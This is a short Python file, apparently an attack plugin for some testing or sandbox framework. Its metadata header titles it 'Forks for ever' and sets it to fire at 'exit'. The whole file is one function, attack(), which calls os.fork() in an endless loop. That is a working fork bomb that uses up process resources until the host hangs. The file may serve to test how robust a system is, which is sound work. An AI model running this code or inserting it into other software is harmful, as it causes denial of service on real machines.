# /// attack
# title = "Forks for ever"
# moments = ["exit"]
# ///
import os


def attack():
    while True:
        os.fork()
